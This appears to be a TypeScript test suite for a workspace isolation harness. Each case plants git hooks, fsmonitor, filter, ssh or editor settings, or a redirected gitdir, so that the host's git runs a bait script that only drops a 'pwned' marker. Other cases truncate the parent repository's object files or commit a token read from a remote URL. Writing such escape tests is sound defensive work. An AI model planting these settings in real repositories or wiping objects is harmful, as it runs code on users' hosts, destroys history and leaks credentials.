/** git, which runs what a repository says. */
import { type Case, pwned } from "../Case.ts"

const common = `G=$(git rev-parse --git-common-dir)`
/** What the user does next on the host, in the workspace and in the repository. */
const next = `for d in "$WS" "$REPOSITORY"; do for c in "status" "diff" "diff --stat" "log -1" "add -A" "commit -qm next --allow-empty" "fetch -q" "checkout -q -f HEAD -- ."; do timeout 3 git -C "$d" -c user.name=a -c user.email=a@b $c < /dev/null > /dev/null 2>&1; done; done`
const bait = `printf '#!/bin/sh\\n: > "%s/pwned"\\ncat\\n' "$H" > bait; chmod 755 bait`
const check = `${next}; ${pwned}`

const setting = (id: string, name: string, why: string, value = `"$PWD/bait"`): Case => ({
  id,
  level: "os",
  why,
  needs: ["git"],
  command: `${bait}; git config ${name} ${value}; echo change >> file.txt`,
  check
})

/** The cases. */
export const cases: ReadonlyArray<Case> = [
  {
    id: "hook",
    level: "os",
    why: "a hook runs on the host with the next commit",
    needs: ["git"],
    command: `${bait}; ${common}; mkdir -p "$G/hooks"; for h in pre-commit post-commit post-checkout; do cp bait "$G/hooks/$h"; done`,
    check
  },
  setting(
    "hooks-path",
    "core.hooksPath",
    "hooks from a folder of the workspace",
    `"$PWD/hooks"; mkdir -p hooks; cp bait hooks/post-commit; cp bait hooks/pre-commit`
  ),
  setting("fsmonitor", "core.fsmonitor", "runs with every status"),
  setting("external-diff", "diff.external", "runs with a diff"),
  setting(
    "editor",
    "core.editor",
    "runs with a commit without a message",
    `"$PWD/bait"; git config commit.verbose true; git config sequence.editor "$PWD/bait"; git config core.fsmonitor "$PWD/bait"`
  ),
  setting(
    "ssh-command",
    "core.sshCommand",
    "runs with a fetch",
    `"$PWD/bait"; git config remote.origin.url ssh://localhost/x; git config remote.origin.fetch "+refs/heads/*:refs/remotes/origin/*"; git config branch.main.remote origin`
  ),
  setting(
    "upload-pack",
    "remote.origin.uploadpack",
    "runs with a fetch from a folder",
    `"$PWD/bait"; git config remote.origin.url "$PWD"; git config remote.origin.fetch "+refs/heads/*:refs/remotes/origin/*"`
  ),
  setting("signing", "gpg.program", "runs with a signed commit", `"$PWD/bait"; git config commit.gpgSign true`),
  setting(
    "filter",
    "filter.x.clean",
    "runs with an add",
    `"$PWD/bait"; git config filter.x.smudge "$PWD/bait"; echo "*.txt filter=x" > .gitattributes`
  ),
  setting(
    "attributes",
    "filter.x.clean",
    "the same, by attributes that no commit shows",
    `"$PWD/bait"; ${common}; mkdir -p "$G/info"; echo "*.txt filter=x" > "$G/info/attributes"`
  ),
  setting(
    "include",
    "include.path",
    "settings from a file of the workspace",
    `"$PWD/more"; printf '[core]\\n\\tfsmonitor = "%s/bait"\\n' "$PWD" > more`
  ),
  {
    id: "config-written",
    level: "os",
    why: "the same with an editor and not with git",
    needs: ["git"],
    command: `${bait}; ${common}; printf '[core]\\n\\tfsmonitor = "%s/bait"\\n' "$PWD" >> "$G/config"`,
    check
  },
  {
    id: "config-renamed",
    level: "os",
    why: "a file that can not be written may be replaced",
    needs: ["git"],
    command: `${bait}; ${common}; cp "$G/config" new; printf '[core]\\n\\tfsmonitor = "%s/bait"\\n' "$PWD" >> new; mv -f new "$G/config"`,
    check
  },
  {
    id: "config-worktree",
    level: "os",
    why: "settings of one worktree",
    needs: ["git"],
    command: `${bait}; git config extensions.worktreeConfig true; git config --worktree core.fsmonitor "$PWD/bait"; printf '[core]\\n\\tfsmonitor = "%s/bait"\\n' "$PWD" >> "$(git rev-parse --git-dir)/config.worktree"`,
    check
  },
  {
    id: "folder-moved",
    level: "os",
    why: "`mv .git` takes the protection of what is in it along",
    needs: ["git"],
    command: `${bait}; mv .git .old && cp -r .old .git && printf '[core]\\n\\tfsmonitor = "%s/bait"\\n' "$PWD" >> "$(git rev-parse --git-common-dir)/config"`,
    check
  },
  {
    id: "folder-replaced",
    level: "os",
    why: "a `.git` that points to a repository of the attacker's",
    needs: ["git"],
    command: `${bait}; git init -q evil && git -C evil config core.fsmonitor "$PWD/bait"; mv .git .old; rm -rf .git; echo "gitdir: $PWD/evil/.git" > .git`,
    check
  },
  {
    id: "common-dir",
    level: "os",
    why: "a `commondir` that points to a repository of the attacker's",
    needs: ["git"],
    command: `${bait}; git init -q evil && git -C evil config core.fsmonitor "$PWD/bait"; d=$(git rev-parse --git-dir); echo "$PWD/evil/.git" > "$d/commondir"`,
    check
  },
  {
    id: "user-settings",
    level: "os",
    why: "settings of the user",
    needs: ["git"],
    command: `${bait}; HOME="$H/home" git config --global core.fsmonitor "$PWD/bait"`,
    check: `HOME="$H/home"; export HOME; ${check}`
  },
  {
    id: "adapter-nested",
    level: "os",
    why: "what the adapter itself does with git on the host, when it closes and opens again",
    needs: ["git"],
    isReopened: true,
    command: `${bait}; git init -q sub/nested; (cd sub/nested && git config core.fsmonitor "$WS/bait" && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x); git add sub/nested; git init -q --bare bare; git -C bare config core.fsmonitor "$WS/bait"; git config core.fsmonitor "$WS/bait"; git config filter.x.clean "$WS/bait"; git config filter.x.smudge "$WS/bait"; echo '* filter=x' > .gitattributes; git -c core.fsmonitor= -c user.name=a -c user.email=a@b commit -qam planted`,
    careless: next,
    check: pwned
  },
  {
    id: "nested",
    level: "remote",
    why: "git of the host goes into a repository within the workspace: do not run it there, what runs inside may",
    needs: ["git"],
    command: `${bait}; git init -q sub/nested; (cd sub/nested && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git config core.fsmonitor "$WS/bait"); git add sub/nested`,
    check
  },
  {
    id: "adapter-checkout",
    level: "os",
    workspace: "Checkout",
    why: "the same in a checkout, whose commits are brought to the repository",
    needs: ["git"],
    isReopened: true,
    command: `${bait}; ${common}; git config core.fsmonitor "$PWD/bait"; git config filter.x.clean "$PWD/bait"; git config filter.x.smudge "$PWD/bait"; git config uploadpack.packObjectsHook "$PWD/bait"; git config core.sshCommand "$PWD/bait"; mkdir -p "$G/hooks"; for h in post-checkout pre-push post-commit reference-transaction post-rewrite; do cp bait "$G/hooks/$h"; done; echo '* filter=x' > .gitattributes; echo change > file.txt; git -c core.fsmonitor= -c core.hooksPath=/nope -c user.name=a -c user.email=a@b commit -qm planted -- file.txt`,
    check: `timeout 3 git -C "$REPOSITORY" status > /dev/null; timeout 3 git -C "$REPOSITORY" -c user.name=a -c user.email=a@b commit -qm x --allow-empty; ${pwned}`
  },
  {
    id: "parent-branch",
    level: "os",
    workspace: "Checkout",
    why: "another branch of the repository that the workspace is made from",
    needs: ["git"],
    command: `git -c user.name=a -c user.email=a@b commit -q --allow-empty -m bad; git update-ref refs/heads/main HEAD; git branch other-$TOKEN`,
    check: `git -C "$REPOSITORY" log --format=%s main "other-$TOKEN" 2>&1 | grep -q bad || [ "$(git -C "$REPOSITORY" log -1 --format=%s main)" = bad ]`
  },
  {
    id: "parent-settings",
    level: "os",
    workspace: "Checkout",
    why: "the settings of that repository, which git runs programs from",
    needs: ["git"],
    command: `git config alias.bad "!true"; git config core.fsmonitor "$PWD/bait"`,
    check: `git -C "$REPOSITORY" config alias.bad`
  },
  {
    id: "parent-objects",
    level: "os",
    workspace: "Checkout",
    why: "its history",
    needs: ["git"],
    command: `${common}; find "$G/objects" "$(cat "$G/objects/info/alternates")" "$REPOSITORY/.git/objects" -type f | while read -r f; do chmod u+w "$f"; : > "$f"; done`,
    check: `! git -C "$REPOSITORY" fsck --full > /dev/null 2>&1`
  },
  {
    id: "remote-token",
    level: "os",
    workspace: "Checkout",
    why: "a token in the address of a remote",
    before: `git remote add origin "https://user:$CANARY@localhost/x.git"`,
    needs: ["git"],
    command: `{ git config --get-regexp 'remote.*'; cat "$(git rev-parse --git-common-dir)/config"; } > file.txt; git -c user.name=a -c user.email=a@b commit -qam taken`,
    check: `git -C "$REPOSITORY" log --all --format=%H -S"$CANARY" -- file.txt | grep -q .`
  }
]
